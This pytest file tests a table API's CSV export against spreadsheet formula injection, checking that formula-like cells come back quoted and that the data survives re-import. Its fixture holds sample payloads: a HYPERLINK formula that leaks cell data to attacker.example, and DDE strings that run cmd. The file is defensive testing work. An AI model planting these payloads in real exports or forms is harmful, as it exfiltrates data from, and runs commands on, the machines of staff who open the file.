"""Attacks through a table's CSV export: a lead form (or anyone who can write a row) stores a formula,
and the workspace's staff open the export in a spreadsheet. Every text cell that a spreadsheet would
read as a formula must come back starting with ``'``; numbers stay numbers, and importing the export
gives the same values back."""

from __future__ import annotations

import csv
import io

import pytest

from patchbay.core.testing import create_workspace_with_key

COLUMNS = [{"name": "name", "type": "text"}, {"name": "score", "type": "number"}, {"name": "meta", "type": "json"}, {"name": "@note", "type": "text"}]
FORMULAS = {
    "hyperlink": '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'=1+1",  # already quoted by a user: must survive the round trip as typed
}


@pytest.fixture
async def api(aiohttp_client, make_app, database_url):
    client = await aiohttp_client(make_app(database_url=database_url))
    client.ws = await create_workspace_with_key(client.server.app, plan="enterprise")
    response = await client.post("/connect/v1/tables", json={"name": "Leads", "slug": "leads", "columns": COLUMNS}, headers=client.ws["headers"])
    assert response.status == 201, await response.text()
    return client


async def _export(api) -> dict[str, list[str]]:
    response = await api.get("/connect/v1/tables/leads/export", headers=api.ws["headers"])
    assert response.status == 200
    text = await response.text()
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert lines[0] == ["id", "external_key", "name", "score", "meta", "'@note"]  # a column name is a cell too
    return {line[1]: line for line in lines[1:]}


async def test_formula_cells_are_exported_as_text(api):
    for key, formula in FORMULAS.items():
        response = await api.post(
            "/connect/v1/tables/leads/rows", json={"external_key": key, "data": {"name": formula, "score": -5, "@note": formula}}, headers=api.ws["headers"]
        )
        assert response.status == 201, await response.text()
    response = await api.post(
        "/connect/v1/tables/leads/rows", json={"external_key": "=evil()", "data": {"name": "Ann", "meta": {"note": "=1"}}}, headers=api.ws["headers"]
    )
    assert response.status == 201, await response.text()

    exported = await _export(api)

    for key, formula in FORMULAS.items():
        assert exported[key][2] == exported[key][5] == "'" + formula, key
        assert exported[key][3] == "-5"  # a number column holds numbers: -5 is not a formula
    assert exported["'=evil()"][2] == "Ann"  # the key is a cell too
    assert exported["'=evil()"][4] == '{"note": "=1"}'  # JSON text starts with { or [: not a formula


@pytest.mark.both_databases
async def test_an_export_imported_back_keeps_every_value(api):
    for key, formula in FORMULAS.items():
        await api.post(
            "/connect/v1/tables/leads/rows",
            json={"external_key": f"-{key}", "data": {"name": formula, "score": -5, "@note": formula}},
            headers=api.ws["headers"],
        )
    before = await (await api.get("/connect/v1/tables/leads/rows", params={"limit": "100"}, headers=api.ws["headers"])).json()
    text = await (await api.get("/connect/v1/tables/leads/export", headers=api.ws["headers"])).text()

    response = await api.post("/connect/v1/tables/leads/import", data=text.encode(), headers={**api.ws["headers"], "Content-Type": "text/csv"})

    report = await response.json()
    assert response.status == 201 and (report["created"], report["updated"], report["rejected"]) == (0, len(FORMULAS), 0), report
    after = await (await api.get("/connect/v1/tables/leads/rows", params={"limit": "100"}, headers=api.ws["headers"])).json()
    assert _values(after) == _values(before) and len(_values(after)) == len(FORMULAS)


def _values(page: dict) -> dict[str, dict]:
    """Each row's non-null values by key (an empty CSV cell imports as null)."""
    return {row["external_key"]: {name: value for name, value in row["data"].items() if value is not None} for row in page["data"]}
